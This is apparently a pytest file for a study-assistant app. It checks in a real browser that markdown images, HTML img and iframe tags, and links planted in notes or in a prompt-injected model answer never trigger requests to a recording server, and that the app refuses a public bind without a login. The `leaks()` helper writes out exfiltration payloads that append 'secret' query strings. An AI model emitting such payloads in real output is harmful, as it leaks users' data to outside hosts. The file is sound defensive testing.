"""Nothing from a document or a model reaches the network, and the app is never exposed without a
login: a real `studybot ui` process, real Chromium, and a loopback server that records every
request the page makes to it."""

from __future__ import annotations

import os
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.conftest import BROWSER_ARGS, CHROMIUM, free_port, wait_until_up
from tests.llm_stubs import OpenAIStub

pytestmark = pytest.mark.skipif(
    not Path(CHROMIUM).exists(), reason="needs Debian's chromium (.ci/run installs it)"
)


class Recorder:
    """A loopback HTTP server that answers 200 to anything and remembers each path asked for."""

    def __init__(self):
        self.paths: list[str] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def do_GET(self):
                recorder.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def test_no_image_link_or_iframe_from_notes_or_model_text_is_loaded(tmp_path):
    rec = Recorder()

    def leaks(prefix: str) -> str:
        base = f"{rec.base}/{prefix}"
        return (f"![x]({base}img?q=secret) <img src='{base}raw'> "
                f"<iframe src='{base}frame'></iframe> [docs]({base}link) "
                f"![ref][r]\n\n[r]: {base}refimg")  # fmt: skip

    notes = tmp_path / "notes"
    notes.mkdir()
    (notes / "rope.md").write_text(
        "## What is RoPE?\nRotary position embeddings rotate query and key vectors by position. "
        f"{leaks('')}\n\n## What does the model echo?\nThe model echoes rotary position embeddings "
        f"for RoPE. {leaks('model-')} Endofmodel closes the echo\n"
    )
    # A prompt-injected model answer tries the same through the streamed text; the links are in
    # the notes, so its sentences pass the claim check (the echo goes on from a sentence about
    # the question, out of the same note) and reach the page.
    stub = OpenAIStub(f"RoPE rotates query and key vectors by position [1]. The model echoes rotary "
                      f"position embeddings for RoPE [2]. {leaks('model-')} "
                      "Endofmodel closes the echo [2]")  # fmt: skip
    env = {**os.environ, "STUDYBOT_HOME": str(tmp_path / "home"), "STUDYBOT_LLM_URL": stub.url,
           "STUDYBOT_LLM_MODEL": "stub"}  # fmt: skip
    env.pop("STUDYBOT_CHROMA_URL", None)
    exe = [sys.executable, "-m", "studybot.cli"]
    subprocess.run([*exe, "ingest", str(notes), "--json"], env=env, check=True, capture_output=True)
    port = free_port()
    proc = subprocess.Popen([*exe, "ui", "--port", str(port)], env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)  # fmt: skip
    from playwright.sync_api import sync_playwright

    try:
        wait_until_up(f"http://127.0.0.1:{port}", proc, 120, "ui")
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=BROWSER_ARGS)
            page = browser.new_page()
            requested: list[str] = []  # every request the page starts, as it starts it
            page.on("request", lambda r: requested.append(r.url))
            page.goto(f"http://127.0.0.1:{port}")
            page.fill("#chat-input textarea", "what is rope?")
            page.click("#chat-send")
            page.wait_for_function(  # the model's text, leaks and all, reached the page
                "() => document.querySelector('#chatbot').innerText.includes('Endofmodel')",
                timeout=90_000,
            )
            shown = page.inner_text("#chatbot")
            browser.close()
    finally:
        proc.terminate()
        proc.wait(timeout=30)
        stub.close()
        rec.close()
    assert stub.requests, "the model was asked: its text reached the page"
    assert "RoPE rotates query" in shown  # the model's own sentence, checked and shown
    assert [u for u in requested if u.startswith(rec.base)] == [] and rec.paths == []


def test_the_app_refuses_a_public_bind_without_a_login(tmp_path):
    env = {**os.environ, "STUDYBOT_HOME": str(tmp_path / "home")}
    env.pop("STUDYBOT_AUTH", None)
    out = subprocess.run(
        [sys.executable, "-m", "studybot.cli", "ui", "--host", "0.0.0.0", "--port",
         str(free_port()), "--no-llm"],
        env=env, capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert out.returncode == 2 and "without a login" in out.stderr
